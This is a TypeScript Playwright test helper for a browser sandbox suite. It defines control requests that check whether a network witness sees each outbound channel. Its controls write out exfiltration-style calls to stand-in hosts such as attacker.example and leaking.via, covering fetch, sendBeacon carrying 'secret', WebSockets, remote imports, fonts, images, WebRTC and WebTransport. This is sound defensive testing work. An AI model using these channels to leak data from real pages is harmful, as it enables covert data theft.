// Test helper (Node, Playwright runner). The same channels the hostile probes try, used from an ordinary
// fixture page in the same browser, so a clean hostile run means "blocked", not "the witness was blind".
// Each control names the hits that prove its channel was seen.
import type { Page } from '@playwright/test';
import type { Witness, WitnessHit } from '../harness';

export interface Control {
  channel: string;
  /** Runs in the ordinary page. */
  run: string;
  seen: (h: WitnessHit, tag: string) => boolean;
  /** An https page is needed (WebTransport, worklets are secure-context only). */
  https?: boolean;
}

/** A socket hit from this browser; one that could not be attributed counts too (the socket may close first). */
const ours = (h: WitnessHit, tag: string) => h.tag === tag || h.tag === undefined;
const proxied = (path: string, channel?: WitnessHit['channel']) => (h: WitnessHit) => h.path?.startsWith(path) === true && (!channel || h.channel === channel);

export const NETWORK_CONTROLS: Control[] = [
  { channel: 'fetch http', run: `fetch('http://attacker.example/control-fetch', { mode: 'no-cors' }).catch(() => 0)`, seen: proxied('/control-fetch', 'http') },
  { channel: 'fetch https', run: `fetch('https://leaking.via/control-fetch', { mode: 'no-cors' }).catch(() => 0)`, seen: proxied('/control-fetch', 'https') },
  { channel: 'fetch ip literal (direct TCP)', run: `fetch('http://127.0.0.1:47474/control-ip', { mode: 'no-cors' }).catch(() => 0)`, seen: (h, tag) => h.channel === 'tcp' && h.port === 47474 && ours(h, tag) },
  { channel: 'XMLHttpRequest', run: `(() => { const x = new XMLHttpRequest(); x.open('GET', 'http://attacker.example/control-xhr'); x.send(); })()`, seen: proxied('/control-xhr') },
  { channel: 'sendBeacon', run: `navigator.sendBeacon('http://attacker.example/control-beacon', 'secret')`, seen: proxied('/control-beacon') },
  { channel: 'WebSocket ws', run: `new WebSocket('ws://attacker.example/control-ws').onerror = () => 0`, seen: proxied('/control-ws', 'ws') },
  { channel: 'WebSocket wss', run: `new WebSocket('wss://attacker.example/control-wss').onerror = () => 0`, seen: proxied('/control-wss', 'wss') },
  { channel: 'EventSource', run: `new EventSource('http://attacker.example/control-es')`, seen: proxied('/control-es') },
  {
    channel: 'RTCPeerConnection STUN/TURN',
    run: `(() => {
      const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:3478' }, { urls: 'turn:127.0.0.1:3478?transport=tcp', username: 'u', credential: 'c' }] });
      pc.createDataChannel('d'); pc.createOffer().then((o) => pc.setLocalDescription(o)); setTimeout(() => pc.close(), 4000);
    })()`,
    seen: (h, tag) => h.channel === 'udp' && h.port === 3478 && ours(h, tag),
  },
  { channel: 'dynamic import remote', run: `import('http://attacker.example/control-import.js').catch(() => 0)`, seen: proxied('/control-import.js') },
  {
    channel: 'importScripts remote',
    run: `new Worker(URL.createObjectURL(new Blob(["try { importScripts('http://attacker.example/control-import-scripts.js'); } catch (e) {}"])))`,
    seen: proxied('/control-import-scripts.js'),
  },
  { channel: 'FontFace', run: `new FontFace('x', 'url(http://attacker.example/control-font)').load().catch(() => 0)`, seen: proxied('/control-font') },
  { channel: 'Image', run: `new Image().src = 'http://attacker.example/control-image'`, seen: proxied('/control-image') },
];

/**
 * WebTransport from an ordinary https page does reach the UDP witness (QUIC Initials to 127.0.0.1:47474),
 * but its last retransmission races the socket's closing, so the witness cannot attribute it to this
 * browser, and a test running in the other worker at that moment counts it as its own hit. So this
 * control runs only when asked for: REMIXLET_E2E_WEBTRANSPORT=1, with --workers=1.
 */
export const WEBTRANSPORT_CONTROL: Control = {
  channel: 'WebTransport (QUIC to the UDP witness)',
  https: true,
  run: `new Promise((resolve) => { const t = new WebTransport('https://127.0.0.1:47474/control-wt'); t.closed.catch(() => 0); t.ready.then(resolve, resolve); setTimeout(resolve, 8000); })`,
  seen: (h, tag) => h.channel === 'udp' && h.port === 47474 && ours(h, tag),
};

/**
 * Runs every control from ordinary pages on other.test (http, and https where needed), waiting on each page
 * until its controls are seen before leaving it (leaving cancels what is still in flight). Returns how many
 * hits each control had.
 */
export async function runControls(page: Page, witness: Witness, controls: Control[], timeout = 10_000): Promise<Record<string, number>> {
  const origin = page.url();
  const counts = (hits: WitnessHit[]) => Object.fromEntries(controls.map((c) => [c.channel, hits.filter((h) => c.seen(h, witness.tag)).length]));
  let hits: WitnessHit[] = [];
  for (const https of [false, true]) {
    const wanted = controls.filter((c) => (c.https ?? false) === https);
    if (!wanted.length) continue;
    await page.goto(`${https ? 'https' : 'http'}://other.test/index.html`);
    for (const c of wanted) await page.evaluate(`(async () => { await (${c.run}); })()`);
    const seenAll = (h: WitnessHit[]) => wanted.every((c) => h.some((x) => c.seen(x, witness.tag)));
    hits = await witness.waitForHits(seenAll, { timeout, message: 'a control channel was not seen' }).catch(() => witness.hits());
  }
  if (origin !== page.url()) await page.goto(origin).catch(() => undefined);
  return counts(hits);
}
